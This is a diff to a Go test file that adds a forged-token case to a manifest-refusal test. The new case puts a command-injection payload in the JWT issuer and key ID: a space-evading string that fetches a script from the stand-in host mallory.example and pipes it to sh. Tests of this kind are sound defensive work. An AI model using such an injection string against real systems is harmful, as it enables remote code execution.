@@ -164,6 +164,11 @@ func TestForgedManifestIsRefused(t *testing.T) {
 			claims["iss"] = "https://mallory.example"
 			return i.token(claims, jwt.SigningMethodES256, i.key, "https://mallory.example#key")
 		},
+		"issuer for a shell": func(i *issuer) string {
+			claims := i.claims()
+			claims["iss"] = "did:x:a;wget$IFS-qO-$IFS$9mallory.example|sh"
+			return i.token(claims, jwt.SigningMethodES256, i.key, "did:x:a;wget$IFS-qO-$IFS$9mallory.example|sh#key")
+		},
 		"changed content": func(i *issuer) string {
 			parts := strings.Split(i.token(i.claims(), jwt.SigningMethodES256, i.key, i.did+"#key"), ".")
 			claims := i.claims()
